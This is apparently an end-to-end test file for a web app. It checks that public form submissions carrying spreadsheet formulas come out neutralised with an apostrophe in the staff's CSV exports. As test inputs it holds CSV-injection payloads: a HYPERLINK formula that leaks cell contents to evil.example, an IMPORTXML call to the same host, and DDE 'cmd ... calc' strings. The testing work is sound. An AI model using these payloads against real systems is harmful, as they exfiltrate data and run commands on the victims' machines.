import { readCsvDownload } from '../test/csv.js';
import { AddressedClient, randomAddress, unique } from '../test/factories.js';
import { startTestApp, type TestApp } from '../test/test-app.js';
import type { TestClient } from '../test/test-client.js';
import { SubscriptionRequest } from '../modules/subscription/subscription-request.entity.js';

/*
 * Security review T3-M1, end to end: readers send formulas through the public forms; the staff
 * confirms the requests and downloads both exports. No cell may start a spreadsheet formula.
 */

let t: TestApp;
let staff: TestClient;
beforeAll(async () => {
  t = await startTestApp({ trustProxy: 1 });
  staff = await t.staff();
});
afterAll(() => t.close());

const reader = () => new AddressedClient(t.baseUrl, randomAddress());

/** A cell a spreadsheet runs as a formula (OWASP): it starts with = + - @, TAB or CR. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

const download = async (path: string) => {
  const response = await fetch(`${t.baseUrl}${path}`, { headers: { authorization: `Bearer ${staff.accessToken}` } });
  expect(response.status).toBe(200);
  return (await readCsvDownload(response)).rows;
};

it('the shipping list neutralises every formula a reader sent in a subscription request', async () => {
  const tail = unique('');
  const personal = [
    `=HYPERLINK("http://evil.example/?leak="&A3&B3&C3,"Adres doğrulama") ${tail}`,
    `+cmd|' /C calc'!A0 ${tail}`,
    `-2+3+cmd|' /C calc'!A0 ${tail}`,
    `@SUM(1+1)*cmd|' /C calc'!A0 ${tail}`,
    `\t=1+1 ${tail}`,
  ];
  const emails: string[] = [];
  for (const name of personal) {
    const email = `${unique('formul')}@example.org`;
    emails.push(email);
    const sent = await reader().post('/api/public-subscriptions/personal', {
      name,
      email,
      phone: '+90 312 000 00 00',
      address: '=IMPORTXML("http://evil.example/x","//a")',
    });
    expect(sent.status).toBe(201);
  }
  const companyEmail = `${unique('formul')}@example.org`;
  emails.push(companyEmail);
  const company = await reader().post('/api/public-subscriptions/company', {
    name: `Kurum ${tail}`,
    company: '=1+1',
    email: companyEmail,
    phone: '-1 312 000 00 00',
    address: '@SUM(A1:A9)',
  });
  expect(company.status).toBe(201);

  const em = t.app.db.orm.em.fork();
  for (const email of emails) {
    const request = await em.findOneOrFail(SubscriptionRequest, { email });
    expect((await staff.post(`/api/subscriptions/${request.id}/confirm`)).status).toBe(200);
  }

  const rows = await download('/api/subscriptions/shipping-list.csv');
  const mine = rows.filter((row) => row[0]!.endsWith(tail));
  expect(mine).toHaveLength(personal.length + 1);
  const cells = mine.flat();
  expect(cells.filter(runsAsFormula)).toEqual([]);
  // The text is all there, behind the apostrophe that makes it text.
  // (The form trims what a reader sent: the TAB before `=1+1` goes, and the `=` is neutralised.)
  for (const name of personal) expect(cells).toContain(`'${name.trim()}`);
  expect(cells).toEqual(expect.arrayContaining([`'=IMPORTXML("http://evil.example/x","//a")`, "'=1+1", "'@SUM(A1:A9)", "'+90 312 000 00 00", "'-1 312 000 00 00"]));
});

it('the newsletter export neutralises addresses that start a formula', async () => {
  const tail = unique('');
  const emails = [`=1+cmd|'/ccalc'!a0-${tail}@example.org`, `-1+1-${tail}@example.org`, `=hyperlink-${tail}@example.org`, `+1-${tail}@example.org`];
  for (const email of emails) expect((await reader().post('/api/public-newsletter-subscription/subscribe', { email })).status).toBe(201);

  const rows = await download('/api/newsletter-subscription/export.csv');
  const mine = rows.filter((row) => row[0]!.includes(tail));
  expect(mine.map((row) => row[0])).toEqual(emails.map((email) => `'${email}`));
  expect(rows.flat().filter(runsAsFormula)).toEqual([]);
});
